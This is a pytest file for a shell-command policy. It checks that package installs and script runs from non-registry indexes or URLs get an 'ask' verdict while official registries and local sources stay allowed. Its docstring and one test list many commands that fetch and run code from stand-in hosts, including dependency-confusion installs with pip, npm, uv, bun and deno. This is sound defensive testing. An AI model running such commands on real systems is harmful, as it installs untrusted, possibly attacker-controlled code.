"""Threat: a package tool pointed at an index of the attacker's installs the attacker's code
under an everyday name. `pip install --extra-index-url https://pkgs.example/simple requests`
takes `requests` from whichever index offers the higher version (dependency confusion);
`npm install --registry URL`, `gem install --source URL`, `cargo install --index URL`,
`uvx --index-url URL tool` and the variables those tools read (`PIP_INDEX_URL`,
`npm_config_registry`, `GOPROXY`, ...) do the same. So do `bun add` of an address (only `bunx`
was read), `bun create owner/repo`, and a script run straight from a URL (`deno run URL`,
`deno install -g URL`, `bun run URL`). All of these were allowed; `deno run --allow-read URL`
even hid the URL, read as the value of a flag that takes none.

Invariant: code fetched to be run comes from a public registry (PyPI and PyTorch's wheel host,
npm, RubyGems, crates.io, the Go proxy, deno.land and JSR), from this machine, or is asked
(`builtin:install-from-address`)."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from crustcore_nano.policy.types import Verdict

BashVerdict = Callable[[str], tuple[Verdict, str]]  # the `bash` fixture of conftest.py

_ASKED = (Verdict.ASK, "builtin:install-from-address")


@pytest.mark.parametrize(
    "command",
    [
        "pip install --extra-index-url https://pkgs.example/simple requests",
        "pip install -i https://pkgs.example/simple requests",
        "pip install -ihttps://pkgs.example/simple requests",
        "pip3 install --index-url=https://pkgs.example/simple requests",
        "pip install -f https://pkgs.example/wheels/ requests",
        "python3 -m pip install --extra-index-url https://pkgs.example/simple requests",
        "uv pip install --index-url https://pkgs.example/simple requests",
        "uv add --index corp=https://pkgs.example/simple requests",
        "uvx --index-url https://pkgs.example/simple ruff check .",
        "uv run --extra-index-url https://pkgs.example/simple pytest",
        "pipx install --index-url https://pkgs.example/simple black",
        "npm install --registry https://pkgs.example lodash",
        "npm ci --registry=https://pkgs.example",
        "yarn add lodash --registry https://pkgs.example",
        "gem install --source https://pkgs.example rails",
        "cargo install --index https://pkgs.example/index ripgrep",
        "PIP_INDEX_URL=https://pkgs.example/simple pip install requests",
        "export PIP_EXTRA_INDEX_URL=https://pkgs.example/simple",
        "env UV_INDEX_URL=https://pkgs.example/simple uv sync",
        "npm_config_registry=https://pkgs.example npm install lodash",
        "GOPROXY=https://pkgs.example,direct go install golang.org/x/tools/gopls@latest",
        "bun add github:someone/tool",
        "bun add https://files.example/tool-1.0.0.tgz",
        "bun install git+https://github.com/someone/tool.git",
        "bun x github:someone/tool",
        "bun create someone/template my-app",
        "deno run https://files.example/tool.ts",
        "deno run -A https://files.example/tool.ts",
        "deno run --allow-read https://files.example/tool.ts",
        "deno install -g https://files.example/tool.ts",
        "deno compile https://files.example/tool.ts",
        "bun run https://files.example/tool.ts",
    ],
)
def test_code_from_a_foreign_index_or_address_is_asked(bash: BashVerdict, command: str) -> None:
    assert bash(command) == _ASKED


@pytest.mark.parametrize(
    "command",
    [
        "pip install torch --index-url https://download.pytorch.org/whl/cu121",
        "pip install -f https://download.pytorch.org/whl/torch_stable.html torch",
        "pip install --index-url https://pypi.org/simple requests",
        "pip install --index-url http://localhost:3141/root/dev/simple mypkg",
        "pip install -f ./wheels mypkg",
        "uv run --index pytorch=https://download.pytorch.org/whl/cpu python train.py",
        "npm install --registry=https://registry.npmjs.org lodash",
        "gem install --source https://rubygems.org rails",
        "GOPROXY=https://proxy.golang.org,direct go mod download",
        "GOPROXY=off go build ./...",
        "export PIP_INDEX_URL=https://pypi.org/simple",
        "bun add lodash",
        "bun install",
        "bun x prettier --check .",
        "bun create vite my-app",
        "bun run dev",
        "bun test",
        "deno run https://deno.land/std/examples/welcome.ts",
        "deno run -A jsr:@std/http/file-server",
        "deno run --allow-read main.ts",
        "deno install npm:cowsay",
        "go install golang.org/x/tools/gopls@latest",
    ],
)
def test_registry_and_local_sources_stay_allowed(bash: BashVerdict, command: str) -> None:
    assert bash(command) == (Verdict.ALLOW, "allow")
